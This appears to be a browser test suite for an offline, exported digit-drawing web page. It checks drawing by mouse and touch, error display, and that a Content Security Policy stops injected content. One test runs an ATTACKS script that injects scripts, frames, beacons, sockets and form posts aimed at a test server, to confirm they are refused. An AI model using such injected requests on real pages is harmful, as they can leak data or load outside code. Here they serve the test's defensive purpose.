"""The exported web page, opened from disk with the network off: drawn on, and attacked."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from mnist_core.export.html_page import html_page
from mnist_core.files.write import write_json
from mnist_core.models.classifier import DEFAULT_MODEL
from mnist_core.runs.run import Run
from tests.browser.hands import ROUND_HAND, SLANTED_HAND, Stroke
from tests.export.test_html_page import EXAMPLE, HOSTILE
from tests.serving import sending, serving
from tests.support import wait_until

pytestmark = pytest.mark.browser

SCRIBBLE: list[Stroke] = [
    [(40, 40), (240, 70), (60, 100), (230, 140), (50, 170), (240, 220), (150, 20), (80, 240), (250, 60)]
]
REFUSED = ["connect-src", "img-src", "script-src-elem", "frame-src", "style-src-elem", "form-action"]
"""Rules of the policy that the attacks break."""
ATTACKS = """async (address) => {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
  await fetch(address + "fetch", { mode: "no-cors" }).catch(() => {});
  navigator.sendBeacon(address + "beacon", "x");
  try { new WebSocket(address.replace("http", "ws") + "socket"); } catch {}
  add("img", { src: address + "image" });
  add("script", { src: address + "script" });
  add("script", { textContent: `fetch("${address}inline")` });
  add("iframe", { src: address + "frame" });
  add("link", { rel: "stylesheet", href: address + "style" });
  const form = Object.assign(document.createElement("form"), { action: address + "form", target: "_blank" });
  document.body.append(form);
  form.submit();
}"""

FAILING_WORKER = """window.Worker = class {
  postMessage({ type }) {
    const error = type === "read" && window.isFailing ? "Failing on purpose." : null;
    const reply = { type: type === "read" ? "answer" : type, slot: 0, blank: true, answers: [], stages: [], error };
    setTimeout(() => this.onmessage({ data: reply }));
  }
  terminate() {}
};"""
"""A worker that finds no ink, or fails while window.isFailing."""


@pytest.fixture(scope="module")
def shipped_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of the shipped model as int8, on disk."""
    path = tmp_path_factory.mktemp("page") / "digit lab & co.html"
    path.write_bytes(html_page(Run(DEFAULT_MODEL.parent), "int8"))
    return path


@contextmanager
def opened(chromium: Browser, path: Path, setup: str = "", **context: Any) -> Iterator[tuple[Page, list[str]]]:
    """A page opened from disk, and what must not happen: requests but for itself and its worker, and messages."""
    with chromium.new_context(**{"viewport": {"width": 1280, "height": 900}, **context}) as browser:
        page, unwanted = browser.new_page(), list[str]()
        own = (path.as_uri(), "blob:null/", "data:image/svg+xml,")
        page.on("request", lambda request: None if request.url.startswith(own) else unwanted.append(request.url))
        page.on("console", lambda message: unwanted.append(message.text))
        page.on("pageerror", lambda error: unwanted.append(str(error)))
        page.on("dialog", lambda dialog: unwanted.append(dialog.message))
        page.add_init_script(setup)
        page.goto(path.as_uri())
        yield page, unwanted


def path_of(page: Page, stroke: Stroke) -> list[tuple[float, float]]:
    """Points on the screen, three from each point of the stroke to the next."""
    box = page.locator("#pad").bounding_box()
    assert box is not None
    points = [(box["x"] + x * box["width"] / 280, box["y"] + y * box["height"] / 280) for x, y in stroke]
    return [
        points[0],
        *(
            (x1 + (x2 - x1) * part / 3, y1 + (y2 - y1) * part / 3)
            for (x1, y1), (x2, y2) in pairwise(points)
            for part in (1, 2, 3)
        ),
    ]


def draw_by_mouse(page: Page, strokes: list[Stroke]) -> None:
    for stroke in strokes:
        path = path_of(page, stroke)
        page.mouse.move(*path[0])
        page.mouse.down()
        for place in path[1:]:
            page.mouse.move(*place)
        page.mouse.up()


def draw_by_touch(page: Page, strokes: list[Stroke]) -> None:
    finger = page.context.new_cdp_session(page)
    for stroke in strokes:
        for number, (x, y) in enumerate(path_of(page, stroke)):
            kind = "touchMove" if number else "touchStart"
            finger.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": [{"x": x, "y": y}]})
        finger.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})


def expect_answer(page: Page, text: str) -> None:
    expect(page.locator(".lab-digit")).to_have_text(text)
    expect(page.locator("#answer")).to_be_visible()


def test_drawings_are_read_with_the_network_off(chromium: Browser, shipped_page: Path) -> None:
    with opened(chromium, shipped_page, offline=True) as (page, unwanted):
        undo, clear = (page.get_by_role("button", name=name) for name in ("Undo", "Clear"))
        for digit, strokes in SLANTED_HAND[1:8:6]:
            draw_by_mouse(page, strokes)
            expect_answer(page, str(digit))
            clear.click()
            expect(page.get_by_text("Draw a digit from 0 to 9")).to_be_visible()
        undo.click()  # brings back what was cleared
        expect_answer(page, str(digit))
        brightest = page.evaluate(
            "[...document.querySelectorAll('[data-stage]')].map((canvas) => canvas.getContext('2d')"
            ".getImageData(0, 0, canvas.width, canvas.height).data.reduce((most, level, at) =>"
            " at % 4 === 3 ? most : Math.max(most, level), 0))"
        )
        assert brightest == [255] * 6, "every stage has a picture"
        draw_by_mouse(page, SCRIBBLE)
        expect_answer(page, "?")
        expect(page.locator(".lab-bars b")).to_have_text("not a digit")
        heights = page.locator(".lab-bars > :nth-child(3n + 1)").evaluate_all("all => all.map((e) => e.offsetHeight)")
        assert len(heights) == 11 and len(set(heights)) == 1, "not a digit stays on one line"
        assert len(page.workers) == 1 and unwanted == []


def test_without_workers_the_page_itself_reads(chromium: Browser, shipped_page: Path) -> None:
    with opened(chromium, shipped_page, "delete window.Worker;") as (page, unwanted):
        digit, strokes = ROUND_HAND[7]
        draw_by_mouse(page, strokes)
        expect_answer(page, str(digit))
        assert unwanted == []


def test_a_problem_is_shown_until_a_drawing_is_read(chromium: Browser, shipped_page: Path) -> None:
    with opened(chromium, shipped_page, FAILING_WORKER) as (page, _):
        for is_failing in (True, False):
            page.evaluate("(is_failing) => { window.isFailing = is_failing; }", is_failing)
            draw_by_mouse(page, ROUND_HAND[1][1])
            expect(page.locator("#problem")).to_be_visible(visible=is_failing)


def test_a_finger_draws_on_a_phone(chromium: Browser, shipped_page: Path) -> None:
    phone = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True, "device_scale_factor": 3}
    with opened(chromium, shipped_page, offline=True, color_scheme="dark", **phone) as (page, unwanted):
        before = page.locator("#pad").bounding_box()
        for digit, strokes in SLANTED_HAND[3:5]:
            draw_by_touch(page, strokes)
            expect_answer(page, str(digit))
            assert page.locator("#pad").bounding_box() == before, "the answer does not push the canvas away"
            page.get_by_role("button", name="Clear").tap()
            expect(page.get_by_text("Draw a digit from 0 to 9")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") == 390
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(13, 23, 21)"
        assert unwanted == []


@pytest.mark.parametrize(
    ("damage", "says"),
    [
        (lambda content: content.replace(b'id="model">RExBQgE', b'id="model">RExBQgI'), "format 2"),
        (lambda content: content.replace(b'id="model">RExBQgE', b'id="model">RExB!!!'), "cannot be used"),
        (lambda content: content[: len(content) // 2], "may be incomplete"),
    ],
)
def test_a_damaged_page_says_so(chromium: Browser, tmp_path: Path, damage: Callable[[bytes], bytes], says: str) -> None:
    content = html_page(Run(EXAMPLE))
    (path := tmp_path / "page.html").write_bytes(damage(content))
    assert path.read_bytes() != content
    with opened(chromium, path) as (page, _):
        expect(page.locator("#problem")).to_contain_text(says)
        expect(page.locator("#problem")).to_be_visible()


def test_a_hostile_name_runs_nothing_and_no_script_reaches_the_network(chromium: Browser, tmp_path: Path) -> None:
    run = Run(Path(shutil.copytree(EXAMPLE, tmp_path / "run")))
    write_json(run.path / "label.json", {"name": HOSTILE[:80], "note": HOSTILE})
    (path := tmp_path / "page.html").write_bytes(html_page(run))
    with serving(sending(b"", status=204), "") as (address, asked):
        with opened(chromium, path) as (page, unwanted):
            assert page.locator("dd").first.inner_text().replace("\n", "\u2028") == HOSTILE
            draw_by_mouse(page, ROUND_HAND[1][1])
            expect(page.locator("#answer")).to_be_visible()
            assert unwanted == [] and page.locator("img").count() == 0 and page.locator("#problem").is_hidden()
            page.evaluate(ATTACKS, address)
            page.wait_for_function("(rules) => rules.every((rule) => refused.includes(rule))", arg=REFUSED)
            page.workers[0].evaluate(
                "address => fetch(address + 'worker', { mode: 'no-cors' }).catch(() => 0)", address
            )
            assert asked == []
        with opened(chromium, path, bypass_csp=True) as (page, _):
            page.evaluate(ATTACKS, address)
            attacks = {"/fetch", "/beacon", "/inline", "/script", "/style"}
            wait_until(lambda: attacks <= set(asked), "without the policy the attacks work")
